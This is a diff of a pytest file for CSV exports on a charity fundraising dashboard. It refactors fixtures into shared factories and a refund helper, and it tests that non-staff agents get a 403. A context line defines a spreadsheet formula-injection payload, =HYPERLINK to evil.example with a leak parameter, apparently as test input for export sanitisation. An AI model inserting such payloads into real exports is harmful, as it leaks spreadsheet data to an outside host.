@@ -15,50 +15,22 @@ from datetime import UTC, date, datetime
 import pytest
 from sqlalchemy import func, select
 
-from agents.models import MembershipRole
-from campaigns import exports, totals
-from campaigns.models import AuditEntry, Donation, DonationKind, OfflineGift, utcnow
+from campaigns import exports
+from campaigns.models import AuditEntry, Donation, OfflineGift, utcnow
 from campaigns.services import record_gift
 from messaging import sharing
 from tests.factories import (
     AgentFactory,
     CauseFactory,
     EventPageFactory,
-    MembershipFactory,
-    OrganisationFactory,
     PageFactory,
     ProjectFactory,
+    refund_row,
 )
 
 BASE = "/staff/eau-vive/dashboard/exports"
 NAMES = ("donations", "pages", "agents", "offline")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
-
-
-@pytest.fixture
-def org(db):
-    return OrganisationFactory(slug="eau-vive", name="Eau Vive")
-
-
-@pytest.fixture
-def cause(db, org):
-    return CauseFactory(organisation=org, slug="twestival", title="Twestival")
-
-
-@pytest.fixture
-def staffer(db, org):
-    return MembershipFactory(organisation=org, role=MembershipRole.STAFF).agent
-
-
-@pytest.fixture
-def as_agent(db, client, login_as):
-    def login(agent):
-        db.session.commit()
-        login_as(agent)
-        client.get("/lang/en")
-        return agent
-
-    return login
 
 
 def rows_of(response) -> list[dict]:
@@ -96,22 +68,7 @@ def ledger(db, org, cause):
         extra={"share_link_id": link.id, "stripe_payment_intent_id": "pi_123"},
     )
     gift.receipt_number = "EV-2026-000001"
-    refund = Donation(
-        kind=DonationKind.REFUND,
-        organisation_id=gift.organisation_id,
-        cause_id=gift.cause_id,
-        project_id=gift.project_id,
-        page_id=gift.page_id,
-        event_id=gift.event_id,
-        amount_minor=-1000,
-        currency="EUR",
-        donor_key=gift.donor_key,
-        original_id=gift.id,
-        created_at=datetime(2026, 6, 25, 9, 0, tzinfo=UTC),
-    )
-    db.session.add(refund)
-    db.session.flush()
-    totals.apply(refund)
+    refund = refund_row(gift, 1000, datetime(2026, 6, 25, 9, 0, tzinfo=UTC))
     record_gift(
         page=lyon,
         cause=cause,
@@ -129,9 +86,9 @@ def ledger(db, org, cause):
 # --- who may download -----------------------------------------------------------
 
 
-def test_an_agent_who_is_not_staff_gets_403_and_no_audit_entry(db, client, as_agent, ledger):
-    outsider = AgentFactory()
-    MembershipFactory(agent=outsider, organisation=OrganisationFactory())
+def test_an_agent_who_is_not_staff_gets_403_and_no_audit_entry(
+    db, client, as_agent, ledger, outsider
+):
     as_agent(outsider)
     for name in NAMES:
         response = client.get(f"{BASE}/{name}.csv")
